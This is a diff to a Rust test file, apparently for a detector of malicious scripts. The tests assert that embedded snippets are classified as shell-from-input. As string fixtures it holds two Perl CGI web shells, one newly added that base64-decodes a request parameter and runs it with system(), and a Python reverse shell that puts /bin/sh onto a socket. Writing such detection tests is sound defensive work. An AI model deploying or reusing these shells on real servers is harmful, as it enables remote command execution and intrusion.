@@ -113,6 +113,10 @@ fn what_the_held_out_scripts_taught_is_found() {
     let cgi = "#!/usr/bin/perl\n%F = parse($ENV{'QUERY_STRING'});\n$cmd = $F{'cmd'};\n\
                open(CMD, \"($cmd) 2>&1 |\") || print 'failed';\nprint while (<CMD>);\n";
     assert_eq!(whys(cgi), [Why::ShellFromInput]);
+    // The command sent in base64 and decoded as it is run (fresh45's ALFA `perl.alfa`).
+    let decoded = "#!/usr/bin/perl\nuse MIME::Base64;\nread(STDIN, $in, $ENV{'CONTENT_LENGTH'});\n%in = parse($in);\n\
+                   if ($in{\"cmd\"}) { system(decode_base64($in{\"cmd\"})); }\n";
+    assert_eq!(whys(decoded), [Why::ShellFromInput]);
     // A shell put onto a socket's descriptor by the shell's own redirections.
     let py = "import socket, os\ns = socket.socket()\ns.connect((h, p))\nf = s.fileno()\n\
               os.system('/bin/sh -i <&' + str(f) + ' >&' + str(f) + ' 2>&' + str(f))\n";
